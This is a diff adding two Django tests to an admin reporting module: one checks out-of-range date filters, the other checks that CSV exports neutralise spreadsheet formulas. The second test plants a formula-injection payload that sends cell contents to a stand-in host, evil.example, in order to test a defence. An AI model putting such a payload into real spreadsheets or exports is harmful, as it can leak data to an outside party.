@@ -230,3 +230,31 @@ def test_with_a_rollup_an_admin_page_reads_no_decision_or_share_rows(
     touched = " ".join(query["sql"] for query in queries.captured_queries)
     assert "employers_decision" not in touched
     assert "employers_sharedcredential" not in touched
+
+
+@pytest.mark.parametrize("dates", [{"end": "9999-12-31"}, {"start": "0001-01-01"}])
+@pytest.mark.parametrize("view", ["overview", "export"])
+def test_dates_out_of_range_are_form_errors_not_500(client, world: World, dates, view):
+    client.force_login(world.admin)
+    url = OVERVIEW if view == "overview" else export_url("credential-funnel")
+
+    response = client.get(url, dates, secure=True)
+
+    assert response.status_code == 200
+    if view == "overview":
+        assert response.context["form"].errors
+        assert presented(response) == 4
+
+
+def test_csv_export_defuses_spreadsheet_formulas_in_credential_text(client, world: World):
+    Decision.objects.filter(credential_issuer="Uni Z").update(
+        credential_issuer='=HYPERLINK("https://evil.example/?"&A1,"x")'
+    )
+    client.force_login(world.admin)
+
+    response = client.get(export_url("issuer"), HTTP_ACCEPT_LANGUAGE="en", secure=True)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
+    issuers = [row[0] for row in rows[1:]]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in issuers
+    assert not any(issuer.startswith("=") for issuer in issuers)
